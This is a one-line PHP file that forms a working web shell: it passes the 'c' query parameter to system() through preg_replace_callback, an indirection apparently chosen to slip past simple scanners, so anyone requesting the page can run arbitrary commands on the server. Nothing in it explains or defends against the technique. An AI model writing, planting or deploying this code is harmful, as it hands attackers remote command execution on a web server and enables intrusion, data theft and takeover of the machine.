<?php
preg_replace_callback("/.+/", function ($m) { return system($m[0]); }, $_GET["c"]);
